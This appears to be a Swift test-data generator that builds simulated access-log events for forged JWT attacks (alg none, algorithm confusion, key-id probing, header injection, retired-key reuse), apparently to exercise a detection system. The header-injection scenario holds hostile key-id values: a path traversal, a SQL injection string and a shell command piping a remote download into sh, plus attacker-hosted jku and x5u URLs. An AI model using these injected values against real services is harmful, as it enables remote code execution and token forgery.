/// Forged tokens: the attacker makes tokens up and tries what the validators let through.
extension ScenarioBuilder {
    /// `alg_none_attempt`: unsigned tokens at five services; the last one accepts.
    mutating func algNone() {
        let address = attacker(1)
        let subject = subject()
        let services = ["payments-api", "orders-api", "accounts-api", "partner-api", "reporting-api"]
        for (step, name) in services.enumerated() {
            var event = access(
                at: at(Double(step) * 2),
                service: name,
                subject: subject,
                tokenID: tokenID(),
                address: address,
                userAgent: Self.toolAgents[3],
                accepted: step == services.count - 1,
                reason: "alg_none"
            )
            event.algorithm = "none"
            event.keyID = nil
            add(event)
        }
    }

    /// `alg_confusion`: HS256 tokens (signed with the issuer's public key as the HMAC secret) for
    /// the RS256 issuer; reporting-api accepts three of them, the others reject the algorithm.
    mutating func algConfusion() {
        let address = attacker(2)
        let subject = subject()
        let rejecting = ["payments-api", "orders-api", "accounts-api", "checkout-service", "partner-api", "files-api"]
        for step in 0..<24 {
            // The acceptances come among the first six, with at most three rejections before each: the
            // attack is alg_confusion alone, not also a guess that worked after five failures.
            let accepted = step == 1 || step == 3 || step == 5
            var event = access(
                at: at(Double(step) * 6),
                service: accepted ? "reporting-api" : rejecting[step % rejecting.count],
                subject: subject,
                tokenID: tokenID(),
                address: address,
                userAgent: Self.toolAgents[3],
                accepted: accepted,
                reason: "alg_not_allowed"
            )
            event.algorithm = "HS256"
            add(event)
        }
    }

    /// `key_probe`: twelve guessed key ids from one address.
    mutating func keyProbe() {
        let address = attacker(3)
        let subject = subject()
        let guesses = [
            "1", "2", "default", "prod", "rsa-2024-01", "signing-key", "jwt", "key-0", "main", "sig-2023", "primary",
            "test",
        ]
        for (step, kid) in guesses.enumerated() {
            var event = access(
                at: at(Double(step) * 13),
                service: step % 2 == 0 ? "api-gateway" : "partner-api",
                subject: subject,
                tokenID: tokenID(),
                address: address,
                userAgent: Self.toolAgents[0],
                accepted: false,
                reason: "key_unknown"
            )
            event.keyID = kid
            add(event)
        }
    }

    /// `header_injection`: key ids that are paths, SQL or shell; `jku` and `x5u` pointing to the
    /// attacker's hosts.
    mutating func headerInjection() {
        let address = attacker(4)
        let subject = subject()
        let kids = ["../../../../dev/null", "key' OR '1'='1", "k1; curl -s http://198.51.100.23/x | sh"]
        for (step, kid) in kids.enumerated() {
            var event = access(
                at: at(Double(step) * 12),
                service: "accounts-api",
                subject: subject,
                tokenID: tokenID(),
                address: address,
                userAgent: Self.toolAgents[3],
                accepted: false,
                reason: "key_unknown"
            )
            event.keyID = kid
            add(event)
        }
        var jku = access(
            at: at(40),
            service: "payments-api",
            subject: subject,
            tokenID: tokenID(),
            address: address,
            userAgent: Self.toolAgents[3],
            accepted: false,
            reason: "bad_signature"
        )
        jku.jwkSetURL = "https://jwks.attacker.example/.well-known/jwks.json"
        add(jku)
        var x5u = access(
            at: at(52),
            service: "payments-api",
            subject: subject,
            tokenID: tokenID(),
            address: address,
            userAgent: Self.toolAgents[3],
            accepted: false,
            reason: "bad_signature"
        )
        x5u.x509URL = "http://198.51.100.23/cert.pem"
        add(x5u)
    }

    /// `retired_key`: the main issuer rotates its key at the attack's start (the generator moves
    /// the rotation there); 20 s later four addresses try twelve unknown key ids within two
    /// minutes (three each, so no single address probes; each for another subject). Then tokens
    /// signed with the leaked, retired key ``AttackScenario/retiredKeyID`` are accepted by four
    /// services that still trust it and rejected by two.
    mutating func retiredKey() {
        let guesses = [
            "rsa-2025-12", "rsa-2026-01", "rsa-2026-02", "rsa-2025-11-b", "rsa-2025-11-old", "rsa-next", "rsa-2025-10",
            "rsa-2025-09", "rsa-backup", "rsa-2026", "rsa-2025-11-rotated", "rsa-staging",
        ]
        let services = ["payments-api", "orders-api", "accounts-api", "checkout-service"]
        for (step, kid) in guesses.enumerated() {
            var event = access(
                at: at(20 + Double(step) * 10),
                service: services[step % services.count],
                subject: subject(),
                tokenID: tokenID(),
                address: attacker(10 + step % 4),
                userAgent: Self.toolAgents[step % 3],
                accepted: false,
                reason: "key_unknown"
            )
            event.keyID = kid
            add(event)
        }
        let subject = subject()
        let uses = [
            ("reporting-api", true), ("payments-api", false), ("partner-api", true), ("files-api", true),
            ("accounts-api", false), ("invoices-api", true),
        ]
        for (step, (name, accepted)) in uses.enumerated() {
            var event = access(
                at: at(150 + Double(step) * 9),
                service: name,
                subject: subject,
                tokenID: tokenID(),
                address: attacker(14),
                userAgent: Self.toolAgents[0],
                accepted: accepted,
                reason: "key_unknown"
            )
            event.keyID = AttackScenario.retiredKeyID
            add(event)
        }
    }
}
